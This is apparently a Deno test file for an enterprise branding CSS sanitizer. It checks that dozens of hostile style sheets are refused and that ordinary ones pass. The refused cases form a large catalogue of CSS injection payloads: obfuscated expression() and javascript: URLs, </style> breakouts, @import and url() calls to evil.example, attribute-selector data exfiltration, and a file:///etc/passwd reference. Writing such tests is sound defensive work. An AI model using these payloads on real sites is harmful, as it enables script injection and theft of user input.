import { equal, ok } from "node:assert/strict";
import {
  CUSTOM_CSS_MAX,
  findForbiddenCss,
} from "../../../../services/enterprise/branding/css_sanitizer.ts";
import { processorMsOf } from "../../../helpers/in_time.ts";

/** An invisible character, or one that does not distinguish letters. */
const ZERO_WIDTH = "\u200b";
const SOFT_HYPHEN = "\u00ad";
const BOM = "\ufeff";

for (
  const [what, attacks] of Object.entries({
    "expression()": [
      "a{width:expression(alert(1))}",
      "a{width:EXPRESSION(alert(1))}",
      "a{width:eXpReSsIoN(alert(1))}",
      "a{width:expression (alert(1))}",
      "a{width:expression\n\t(alert(1))}",
      "a{width:exp/**/ression(alert(1))}",
      "a{width:exp/* ' */ression/* \" */(alert(1))}",
      "a{width:expression/**/(alert(1))}",
      String.raw`a{width:\65xpression(alert(1))}`,
      String.raw`a{width:\65 xpression(alert(1))}`,
      String.raw`a{width:\000065xpression(alert(1))}`,
      String.raw`a{width:\000065 xpression(alert(1))}`,
      "a{width:\\65\r\nxpression(alert(1))}",
      "a{width:\\65\fxpression(alert(1))}",
      String.raw`a{width:\45XPRESSION(alert(1))}`,
      String.raw`a{width:e\xpression(alert(1))}`,
      String.raw`a{width:e\78\70\72\65\73\73\69\6f\6e(alert(1))}`,
      String.raw`a{width:expression\28 alert(1))}`,
      "a{width:exp\\\nression(alert(1))}",
      "a{width:exp\\\r\nression(alert(1))}",
      String.raw`a{width:\5c 65xpression(alert(1))}`,
      String.raw`a{width:\6/**/5xpression(alert(1))}`,
      String.raw`a{width:exp\2f**\2fression(alert(1))}`,
      String.raw`a{width:exp\0ression(alert(1))}`,
      String.raw`a{width:exp\0000ression(alert(1))}`,
      String.raw`a{width:exp\110000ression(alert(1))}`,
      `a{width:exp${ZERO_WIDTH}ression(alert(1))}`,
      `a{width:exp${SOFT_HYPHEN}ression(alert(1))}`,
      `a{width:exp${BOM}ression(alert(1))}`,
      "a{width:exp\u0000ression(alert(1))}",
      "a{width:exp\u0301ression(alert(1))}",
      "a{width:ｅｘｐｒｅｓｓｉｏｎ(alert(1))}",
      "a{width:expression（alert(1))}",
      "a{width:expʀessioɴ(alert(1))}",
      "a{width:expressıon(alert(1))}",
      "a{width:expreſſion(alert(1))}",
      "a{width:ⓔⓧⓟⓡⓔⓢⓢⓘⓞⓝ(alert(1))}",
      "a{width:𝐞𝐱𝐩𝐫𝐞𝐬𝐬𝐢𝐨𝐧(alert(1))}",
      // Only who knows of strings sees it, and only who does not.
      `a{content:"/*"}b{width:exp/**/ression(1)}c{content:"*/"}`,
      `a{content:"/*"}b{width:expression(1)}c{content:"*/"}`,
      `a{content:"\\"/*"}b{width:exp/**/ression(1)}`,
      "a{width:expression(alert(1))",
      "/* a{width:expression(alert(1))}",
    ],
    "javascript:": [
      "a{background:url(javascript:alert(1))}",
      "a{background:url('JavaScript:alert(1)')}",
      `a{background:url("java\\\nscript:alert(1)")}`,
      `a{background:url("java\tscript:alert(1)")}`,
      `a{background:url(" javascript :alert(1)")}`,
      String.raw`a{background:url("\6a avascript:alert(1)")}`,
      String.raw`a{background:url("javascript\3a alert(1)")}`,
      String.raw`a{background:url("javascript\00003aalert(1)")}`,
      "a{background:url(java/**/script:alert(1))}",
      "a{background:url(ｊａｖａｓｃｒｉｐｔ:alert(1))}",
      "a{background:url(javascript：alert(1))}",
      "a{list-style-image:url(javascript:alert(1))}",
      "a{-x:javascript:alert(1)}",
    ],
    "vbscript: or another script URL": [
      "a{background:url(vbscript:msgbox(1))}",
      "a{background:url(VBScript:msgbox(1))}",
      String.raw`a{background:url(\76 bscript:msgbox(1))}`,
      "a{background:url(livescript:x)}",
      "a{background:url(mocha:x)}",
    ],
    "@import": [
      "@import 'https://evil.example/x.css';",
      "@import url(https://evil.example/x.css);",
      "@IMPORT 'x';",
      "@im/**/port 'x';",
      "@/**/import 'x';",
      "@ import 'x';",
      "@import/**/'x';",
      '@import"x";',
      String.raw`@\69mport 'x';`,
      String.raw`@\000069 mport 'x';`,
      String.raw`@\i\m\p\o\r\t 'x';`,
      String.raw`\40import 'x';`,
      String.raw`@imp\6F rt 'x';`,
      "@im\\\nport 'x';",
      "＠import 'x';",
      "@ｉｍｐｏｒｔ 'x';",
      `@imp${ZERO_WIDTH}ort 'x';`,
      `a{content:"/*"} @import 'x'; b{content:"*/"}`,
      `a{content:'\\'/*'} @im/**/port 'x';`,
      "a{} ; @import 'x'",
      "@media print{@import 'x';}",
    ],
    "@charset": ["@charset 'utf-7';", String.raw`@\63harset "utf-7";`],
    "</style": [
      "</style><script>alert(1)</script>",
      "a{}</STYLE>",
      "a{}</style\n>",
      "a{content:'</style>'}",
      "/* </style> */",
      "a{}<//**/style>",
      "a{}< /style>",
      "a{}<\u0000/style>",
      String.raw`a{content:"\3c/style>"}`,
      String.raw`a{content:"\3c\2fstyle>"}`,
      String.raw`a{content:"<\/style>"}`,
      "a{content:'＜/style>'}",
      "a{content:'＜／ｓｔｙｌｅ＞'}",
      "a{content:'</ſtyle>'}",
    ],
    "tags": [
      "/* </sty*/ */le>",
      "<script>alert(1)",
      "<!-- a{} -->",
      "a{}</p>",
      "<style>a{}",
      "<link rel=stylesheet href=x>",
      "a{content:'<svg onload=alert(1)>'}",
      "a{content:'<IMG SRC=x onerror=alert(1)>'}",
      "<?xml version='1.0'?>",
      "<![CDATA[",
      String.raw`a{content:"\3cscript>"}`,
    ],
    "< without a space after it": [
      "<b>x",
      "a{content:'<x onclick=alert(1)>'}",
      "@media (300px<width){}",
      "a{}<",
      "<color",
      "<colorful>",
      "<custom-element>",
    ],
    "-moz-binding": [
      "a{-moz-binding:url(//evil.example/x.xml#x)}",
      String.raw`a{-moz-bin\64ing:url(#x)}`,
      "a{-moz-/**/binding:url(#x)}",
    ],
    "behavior:": [
      "a{behavior:url(#default#time2)}",
      "a{ BEHAVIOR : url(#x)}",
      "a{-ms-behavior:url(#x)}",
      "a{_behavior:url(#x)}",
      "a{*behavior:url(#x)}",
      "a{be/**/havior:url(#x)}",
      String.raw`a{behavio\72 :url(#x)}`,
      "a{color:red;behavior:url(#x)}",
      "a{scroll\u2010behavior:url(#x)}",
      "a{ｓcroll-behavior:url(#x)}",
    ],
    "progid:": [
      "a{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='//evil.example')}",
    ],
    "-o-link": ["a{-o-link:'x';-o-link-source:current}"],
    "image-set(), image() or src()": [
      "a{background:image-set('https://evil.example/x' 1x)}",
      "a{background:-webkit-image-set('//evil.example/x' 1x)}",
      "a{background:image('https://evil.example/x')}",
      "@font-face{font-family:x;src:src('https://evil.example/x')}",
      String.raw`a{background:im\61ge-set('//evil.example/x' 1x)}`,
    ],
    "url() other than data:image/... or #id": [
      "input[value^=a]{background:url(https://evil.example/a)}",
      "input[value^=a]{background:url( 'https://evil.example/a' )}",
      "input[value^=a]{background:url(//evil.example/a)}",
      String.raw`input[value^=a]{background:url(\\evil.example\a)}`,
      String.raw`input[value^=a]{background:u\72l(//evil.example/a)}`,
      "input[value^=a]{background:URL(//evil.example/a)}",
      "input[value^=a]{background:#fff url(//evil.example/a)}",
      "a{background:url(/api/logout)}",
      "a{background:url(logo.png)}",
      "a{background:url()}",
      "a{background:url(data:text/html,x)}",
      "a{background:url(data:text/html;base64,PHNjcmlwdD4=)}",
      "a{background:url(data:application/xhtml+xml,x)}",
      "a{background:url(data:,x)}",
      "a{background:url(data:image/evil;base64,x)}",
      "a{background:url(file:///etc/passwd)}",
      "a{background:url(blob:https://evil.example/x)}",
      "a{background:cross-fade(url(//evil.example/x), red)}",
      "a{--x:url(//evil.example/x);background:var(--x)}",
      "@font-face{font-family:x;src:url(https://evil.example/x.woff2)}",
      "@namespace url(http://www.w3.org/1999/xhtml);",
      "a{cursor:url(//evil.example/x.cur),auto}",
      "a{background:url(data:image/png;base64,x),url(//evil.example/x)}",
      `a{content:"/*";background:url(//evil.example/x);--y:"*/"}`,
      // A browser reads each of these as a relative address.
      "input[value^=a]{background:url(＃a)}",
      'input[value^=a]{background:url("＃a")}',
      "input[value^=a]{background:url(﹟a)}",
      String.raw`input[value^=a]{background:url(\ff03 a)}`,
      "input[value^=a]{background:ｕｒｌ(＃a)}",
      "input[value^=a]{background:url(＂#a)}",
      "input[value^=a]{background:url(\u200b#a)}",
      "a{background:url(ｄata:image/png;base64,x)}",
      "a{background:url(data：image/png;base64,x)}",
      "a{background:url(data:image／png;base64,x)}",
      "a{background:url(data:ımage/png;base64,x)}",
      "a{background:url(data:image/png；base64,x)}",
      "a{background:url(data:image/png;base64,x),url(＃a)}",
    ],
  })
) {
  for (const css of attacks) {
    Deno.test(`refused for ${what}: ${JSON.stringify(css)}`, () => {
      equal(findForbiddenCss(css), what);
    });
  }
}

for (
  const css of [
    "",
    "body { color: #123; }",
    ".gene-expression { color: red } .expression > b:not(.x) { top: 0 }",
    "html { scroll-behavior: smooth; overscroll-behavior: contain }",
    "a { overscroll-behavior-y:none; transition-behavior: allow-discrete }",
    "/* The import of the brand; no expression, no behavior */ .import { margin: 0 }",
    "@media (width < 600px) { .top { padding: 1rem } }",
    "@media (400px <= width <= 700px) and (height <9in) { .top { padding: 1rem } }",
    "@media (prefers-color-scheme: dark) { :root { --brand: #000 } }",
    "@supports (display: grid) and (not (display: inline-grid)) { main { display: grid } }",
    "@keyframes spin { from { rotate: 0deg } to { rotate: 1turn } }",
    "@layer brand { .card { border-radius: 0 } } @container card (inline-size > 30em) { h2 { top: 0 } }",
    "@font-face { font-family: Acme; src: local('Acme Sans') }",
    '@property --x { syntax: "<color>"; inherits: false; initial-value: red }',
    '@property --y { syntax: "<length>+ | <custom-ident>#"; inherits: true; initial-value: 1px }',
    '.quote::before { content: "\\201C" } .dash::after { content: "\\2014\\00a0" }',
    ".icon::before { content: '\ue900' } .name::after { content: 'Übersicht – 日本語 ✓' }",
    ".w-1\\/2 { width: 50% } .md\\:flex { display: flex } .\\31 0 { top: 0 }",
    "a[href^='https://example.com'] { color: green } a:hover::after { content: ' ↗' }",
    ".javascript { color: orange } .data:hover { color: blue }",
    ".hero { background: url(data:image/png;base64,iVBORw0KGgo=) no-repeat }",
    ".hero { background: #fff url( \"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'/%3E\" ) }",
    ".cut { clip-path: url(#cut); mask: url('#mask') } .x { fill: URL( #schön ) }",
    ".top { background: linear-gradient(90deg, rgb(0 0 0 / 50%), color-mix(in oklab, red 20%, #fff)) }",
    ".top h1 { font: 700 clamp(1rem, calc(1rem + 2vw), 2rem)/1.2 'Acme Sans', sans-serif }",
    "main > section + section ~ p { margin: -1px !important }",
    ".resource { top: 0 } .a-link-x { left: 0 } .no-progid { right: 0 }",
  ]
) {
  Deno.test(`accepted: ${JSON.stringify(css)}`, () => equal(findForbiddenCss(css), undefined));
}

Deno.test("the longest style sheets are checked quickly, whatever they are made of", async () => {
  const patterns = [
    "a{color:red}",
    "/*",
    "*/",
    "/**/",
    '"',
    "'/*",
    "\\",
    "\\65",
    "\\\\",
    "<",
    "< ",
    "url(data:image/png;",
    "\u0301",
    "\ufdfa",
    '"\\',
    "e/**/\\65 ",
    "\\2f* \\2a/",
  ];
  for (const pattern of patterns) {
    const css = pattern.repeat(Math.ceil(CUSTOM_CSS_MAX / pattern.length)).slice(0, CUSTOM_CSS_MAX);
    const ms = await processorMsOf(() => findForbiddenCss(css));
    ok(ms < 1_000, `${JSON.stringify(pattern)}: ${ms} ms`);
  }
});

Deno.test("findForbiddenCss() reads a style sheet of spaces and of letters that stand for many", () => {
  const spaces = `url(${" ".repeat(49_990)}`;
  equal(findForbiddenCss(spaces), "url() other than data:image/... or #id");
  equal(findForbiddenCss("\uFDFA".repeat(50_000)), undefined);
});
